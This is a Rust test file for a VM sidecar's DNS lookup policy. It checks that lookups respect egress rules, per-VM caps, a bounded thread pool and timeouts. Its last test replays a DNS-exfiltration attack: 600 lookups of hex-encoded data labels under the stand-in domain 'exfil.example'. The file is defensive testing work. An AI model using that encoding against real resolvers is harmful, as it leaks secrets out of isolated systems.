//! Host name lookups are egress, on a bounded fair pool (host/resolve.rs, host/dns_pool.rs).
//!
//! Every test injects a scripted resolver (no network): it answers the names it was given,
//! stalls on names starting with `stall` until released, and records every query. The
//! attack these defend against: hundreds of lookups of guest-chosen names against a
//! resolver that never answers, from a VM that may reach nothing outside: names left the
//! host, threads grew without bound, and another VM's lookup waited behind them.
//!
//! The tests of this binary run one at a time (`serial`): one of them counts the
//! process's threads.

mod support;

use std::collections::HashMap;
use std::io;
use std::net::{IpAddr, TcpListener};
use std::sync::{Arc, Condvar, Mutex, MutexGuard};
use std::time::{Duration, Instant};

use serde_json::{json, Value};
use sidecar::{LimitOverrides, SidecarConfig};
use support::*;

fn serial() -> MutexGuard<'static, ()> {
    static SERIAL: Mutex<()> = Mutex::new(());
    SERIAL.lock().unwrap_or_else(|e| e.into_inner())
}

#[derive(Default)]
struct Calls {
    queries: Vec<String>,
    /// Stalled calls in the resolver now, and the most at once.
    stalled: usize,
    most_stalled: usize,
    released: bool,
}

/// The scripted resolver (module docs).
#[derive(Default)]
struct Script {
    answers: HashMap<String, Vec<IpAddr>>,
    calls: Mutex<Calls>,
    changed: Condvar,
}

impl Script {
    fn new(answers: &[(&str, &[&str])]) -> Arc<Script> {
        let answers = answers
            .iter()
            .map(|(name, ips)| {
                (
                    name.to_string(),
                    ips.iter().map(|ip| ip.parse().unwrap()).collect(),
                )
            })
            .collect();
        Arc::new(Script {
            answers,
            ..Script::default()
        })
    }

    /// The calls (a test that failed while holding them does not hide its failure).
    fn lock(&self) -> MutexGuard<'_, Calls> {
        self.calls.lock().unwrap_or_else(|e| e.into_inner())
    }

    fn lookup(&self, host: &str) -> io::Result<Vec<IpAddr>> {
        let mut calls = self.lock();
        calls.queries.push(host.to_owned());
        if host.starts_with("stall") {
            calls.stalled += 1;
            calls.most_stalled = calls.most_stalled.max(calls.stalled);
            self.changed.notify_all();
            while !calls.released {
                calls = self.changed.wait(calls).unwrap_or_else(|e| e.into_inner());
            }
            calls.stalled -= 1;
            self.changed.notify_all();
            return Err(io::Error::other("released"));
        }
        self.answers
            .get(host)
            .cloned()
            .ok_or_else(|| io::Error::other("no such name"))
    }

    fn queries(&self) -> Vec<String> {
        self.lock().queries.clone()
    }

    /// Waits (with the deadline) until `done` holds of the calls.
    fn wait_for(&self, what: &str, done: impl Fn(&Calls) -> bool) {
        let deadline = Instant::now() + DEADLINE;
        let mut calls = self.lock();
        while !done(&calls) {
            let left = deadline.saturating_duration_since(Instant::now());
            if left.is_zero() {
                let stalled = calls.stalled;
                drop(calls);
                panic!("{what}: {stalled} stalled");
            }
            calls = self
                .changed
                .wait_timeout(calls, left)
                .unwrap_or_else(|e| e.into_inner())
                .0;
        }
    }

    fn release(&self) {
        self.lock().released = true;
        self.changed.notify_all();
    }
}

/// Releases the stalled calls when dropped (declare it after the harness: it drops first).
struct Release(Arc<Script>);

impl Drop for Release {
    fn drop(&mut self) {
        self.0.release();
    }
}

/// VMs `a`, `b`, `c` (secrets `sa`…) with `rules` for all, answered by `script`.
fn config(script: &Arc<Script>, rules: &[&str]) -> SidecarConfig {
    let mut config = SidecarConfig::default()
        .with_vm("a", "sa")
        .with_vm("b", "sb")
        .with_vm("c", "sc");
    for rule in rules {
        config = config.with_allow(rule.parse().unwrap());
    }
    let script = Arc::clone(script);
    config.with_resolver(move |host: &str| script.lookup(host))
}

fn addresses(result: &Value) -> Vec<String> {
    let list = result["addresses"].as_array().expect("addresses");
    list.iter()
        .map(|a| a["address"].as_str().unwrap().to_owned())
        .collect()
}

/// The threads of this process (Linux); `None` elsewhere.
fn threads() -> Option<usize> {
    #[cfg(target_os = "linux")]
    {
        std::fs::read_dir("/proc/self/task").ok().map(|d| d.count())
    }
    #[cfg(not(target_os = "linux"))]
    {
        None
    }
}

#[test]
fn a_vm_that_may_not_leave_sends_no_query() {
    let _serial = serial();
    let script = Script::new(&[("exfil.example", &["203.0.113.9"])]);
    // VM a has a rule of its own; VM b has none, and there are no global ones.
    let mut config = config(&script, &[]);
    let own = config.vms.get_mut("a").unwrap();
    own.allow.push("203.0.113.0/24:443".parse().unwrap());
    let h = Harness::with_config(config);
    let mut b = h.guest_in(Transport::InProcess, "b");

    let looked_up = b.call("dns.lookup", json!({"host": "exfil.example"}), b"");
    let error = looked_up.expect_err("a VM without rules resolves no host name");
    assert_eq!(error["code"], "ENOTFOUND", "{error}");
    assert!(
        error["message"].as_str().unwrap().contains("policy"),
        "{error}"
    );
    let connect = json!({"host": "exfil.example", "port": 443});
    assert_eq!(code(b.call("net.connect", connect, b"")), "ENOTFOUND");
    assert!(script.queries().is_empty(), "{:?}", script.queries());
    // The VM's own names need no query.
    let local = b
        .call("dns.lookup", json!({"host": "localhost"}), b"")
        .unwrap();
    assert_eq!(addresses(&local), ["127.0.0.1", "::1"]);
    let literal = b
        .call("dns.lookup", json!({"host": "203.0.113.1"}), b"")
        .unwrap();
    assert_eq!(addresses(&literal), ["203.0.113.1"]);
    assert!(script.queries().is_empty(), "{:?}", script.queries());
    let stats = h.stats();
    assert_eq!(stats["dns_refused_policy"], 2, "{stats}");
    assert_eq!(stats["dns_lookups"], 0, "{stats}");

    // VM a's rule lets its lookups out: one query.
    let mut a = h.guest(Transport::InProcess);
    let found = a
        .call("dns.lookup", json!({"host": "exfil.example"}), b"")
        .unwrap();
    assert_eq!(addresses(&found), ["203.0.113.9"]);
    assert_eq!(script.queries(), ["exfil.example"]);
}

#[test]
fn answers_keep_only_what_the_policy_allows_and_fail_closed() {
    let _serial = serial();
    let db = TcpListener::bind("127.0.0.1:0").unwrap();
    let db_port = db.local_addr().unwrap().port();
    let script = Script::new(&[
        (
            "mixed.example",
            &["198.51.100.9", "203.0.113.5", "2001:db8::1", "::1"],
        ),
        ("denied.example", &["198.51.100.9", "2001:db8::1"]),
        ("db.example", &["127.0.0.1"]),
    ]);
    let rules = ["203.0.113.0/24:443", &format!("tcp:127.0.0.1:{db_port}")];
    let h = Harness::with_config(config(&script, &rules));
    let mut g = h.guest(Transport::InProcess);

    // Allowed addresses and the VM's own (its loopback needs no rule) are kept.
    let mixed = g
        .call("dns.lookup", json!({"host": "mixed.example"}), b"")
        .unwrap();
    assert_eq!(addresses(&mixed), ["203.0.113.5", "::1"]);
    let v4 = json!({"host": "mixed.example", "family": 4});
    assert_eq!(
        addresses(&g.call("dns.lookup", v4, b"").unwrap()),
        ["203.0.113.5"]
    );
    // Nothing allowed: fails closed, though the name resolved.
    let denied = g.call("dns.lookup", json!({"host": "denied.example"}), b"");
    let error = denied.expect_err("no allowed address");
    assert_eq!(error["code"], "ENOTFOUND", "{error}");
    assert!(
        error["message"]
            .as_str()
            .unwrap()
            .contains("policy allows none"),
        "{error}"
    );
    // A connect by name is routed on the answer as a connect by address is.
    let to_denied = json!({"host": "denied.example", "port": 443});
    assert_eq!(code(g.call("net.connect", to_denied, b"")), "EACCES");
    let (_, reply) = g.connect_ok("db.example", db_port);
    assert_eq!(reply["remote"]["address"], "127.0.0.1", "{reply}");
    db.accept()
        .expect("the connect by name reached the host listener");

    assert_eq!(script.queries().len(), 5, "{:?}", script.queries());
    let stats = h.stats();
    assert_eq!(stats["dns_lookups"], 5, "{stats}");
    assert_eq!(stats["dns_refused_policy"], 1, "{stats}");
}

#[test]
fn a_vm_gets_at_most_its_cap_of_lookups_and_the_pool_no_more_threads() {
    let _serial = serial();
    let script = Script::new(&[("b.example", &["203.0.113.7"])]);
    let mut config = config(&script, &["203.0.113.0/24"]);
    // Nothing times out during this test: what is admitted stays in flight.
    config.limits.dns_timeout = Duration::from_secs(600);
    let (cap, pool) = (config.limits.dns_lookups_per_vm, config.limits.dns_threads);
    let h = Harness::with_config(config);
    let _release = Release(Arc::clone(&script));
    let mut a = h.guest(Transport::InProcess);
    let mut c = h.guest_in(Transport::InProcess, "c");
    let mut b = h.guest_in(Transport::InProcess, "b");
    let baseline = threads();

    let ids: Vec<u64> = (0..50)
        .map(|i| {
            a.send_call(
                "dns.lookup",
                json!({"host": format!("stall-a{i}.example")}),
                b"",
                false,
            )
        })
        .collect();
    // The cap's worth are admitted; the rest are refused at once, typed.
    let refused = replies(&mut a, &ids[cap..]);
    for (id, outcome) in &refused {
        let error = outcome.as_ref().expect_err("past the cap");
        assert_eq!(error["code"], "EAGAIN", "lookup {id}: {error}");
    }
    // VM a occupies all workers but one.
    script.wait_for("VM a's lookups started", |calls| calls.stalled >= pool - 1);
    let stats = h.stats();
    assert_eq!(stats["vms"]["a"]["dns_lookups_in_flight"], cap, "{stats}");
    assert_eq!(stats["vms"]["a"]["dns_lookups_per_vm"], cap, "{stats}");
    assert_eq!(stats["dns_busy"], 50 - cap, "{stats}");
    assert_eq!(stats["dns_pool"]["busy"], pool - 1, "{stats}");

    // While VM a's lookups stall, VM b's is answered (the deadline is the support
    // module's, generous; nothing here measures time).
    let found = b.call("dns.lookup", json!({"host": "b.example"}), b"");
    assert_eq!(addresses(&found.expect("VM b's lookup")), ["203.0.113.7"]);

    // VM c stalls too: it takes the last worker; the pool grows no further.
    let more: Vec<u64> = (0..cap)
        .map(|i| {
            c.send_call(
                "dns.lookup",
                json!({"host": format!("stall-c{i}.example")}),
                b"",
                false,
            )
        })
        .collect();
    script.wait_for("VM c's lookup started", |calls| calls.stalled == pool);
    let stats = h.stats();
    assert_eq!(stats["dns_pool"]["threads"], pool, "{stats}");
    assert_eq!(stats["dns_pool"]["queued"], 2 * cap - pool, "{stats}");
    if let (Some(before), Some(now)) = (baseline, threads()) {
        assert!(now <= before + pool, "threads {before} → {now}");
    }
    let calls = script.lock();
    assert_eq!(calls.most_stalled, pool);
    // No query was made for a refused lookup, nor for a queued one.
    assert_eq!(calls.queries.len(), pool + 1, "{:?}", calls.queries);
    drop(calls);
    drop((ids, more));
}

#[test]
fn stalled_lookups_time_out_and_the_stuck_ones_stay_counted() {
    let _serial = serial();
    let script = Script::new(&[]);
    let mut config = config(&script, &["0.0.0.0/0"]);
    config.limits.dns_timeout = Duration::from_millis(200);
    let own = LimitOverrides {
        dns_lookups_per_vm: Some(5),
        ..LimitOverrides::default()
    };
    let config = config.with_vm_limits("a", own);
    let pool = config.limits.dns_threads;
    let h = Harness::with_config(config);
    let _release = Release(Arc::clone(&script));
    let mut a = h.guest(Transport::InProcess);

    let ids: Vec<u64> = (0..5)
        .map(|i| {
            a.send_call(
                "dns.lookup",
                json!({"host": format!("stall{i}.example")}),
                b"",
                false,
            )
        })
        .collect();
    for (id, outcome) in replies(&mut a, &ids) {
        let error = outcome.expect_err("the resolver never answers");
        assert_eq!(error["code"], "ETIMEDOUT", "lookup {id}: {error}");
    }
    let stats = h.stats();
    assert_eq!(stats["dns_timeouts"], 5, "{stats}");
    assert_eq!(stats["dns_pool"]["queued"], 0, "{stats}");
    // Those a worker took are still in the resolver, abandoned and counted against the
    // VM; the others left the queue without a query.
    let stuck = stats["dns_pool"]["busy"].as_u64().unwrap() as usize;
    assert!(
        stuck < pool,
        "VM a holds all workers but one at most: {stats}"
    );
    script.wait_for("the taken lookups reached the resolver", |c| {
        c.stalled == stuck
    });
    assert_eq!(stats["dns_abandoned_running"], stuck, "{stats}");
    assert_eq!(stats["vms"]["a"]["dns_lookups_in_flight"], stuck, "{stats}");
    assert_eq!(script.queries().len(), stuck, "{:?}", script.queries());

    // Released, they return: nothing is left in flight.
    script.release();
    // One condition on one snapshot: a VM's figures are read before the pool's, so a
    // snapshot taken as the workers return may show them out of step.
    let settled = settle(&h, "the stuck lookups returned", |s| {
        s["dns_abandoned_running"] == 0
            && s["dns_pool"]["busy"] == 0
            && s["vms"]["a"]["dns_lookups_in_flight"] == 0
    });
    assert_eq!(settled["dns_timeouts"], 5, "{settled}");
}

#[test]
fn the_measured_attack_sends_no_name_out_and_adds_no_thread() {
    // 600 lookups of guest-chosen names, a resolver that never answers, a policy that
    // allows nothing outside: once 2,408 queries left the host and threads went 3 → 515.
    let _serial = serial();
    let script = Script::new(&[]);
    let h = Harness::with_config(config(&script, &[]));
    let _release = Release(Arc::clone(&script));
    let mut a = h.guest(Transport::InProcess);
    let baseline = threads();
    let ids: Vec<u64> = (0..600)
        .map(|i| {
            let name = format!("stall-{i:04}-5365637265742e.exfil.example");
            a.send_call("dns.lookup", json!({"host": name}), b"", false)
        })
        .collect();
    for (id, outcome) in replies(&mut a, &ids) {
        let error = outcome.expect_err("nothing resolves");
        assert_eq!(error["code"], "ENOTFOUND", "lookup {id}: {error}");
    }
    assert!(
        script.queries().is_empty(),
        "{} queries",
        script.queries().len()
    );
    let stats = h.stats();
    assert_eq!(stats["dns_refused_policy"], 600, "{stats}");
    assert_eq!(stats["dns_pool"]["threads"], 0, "{stats}");
    if let (Some(before), Some(now)) = (baseline, threads()) {
        assert!(now <= before, "threads {before} → {now}");
    }
}
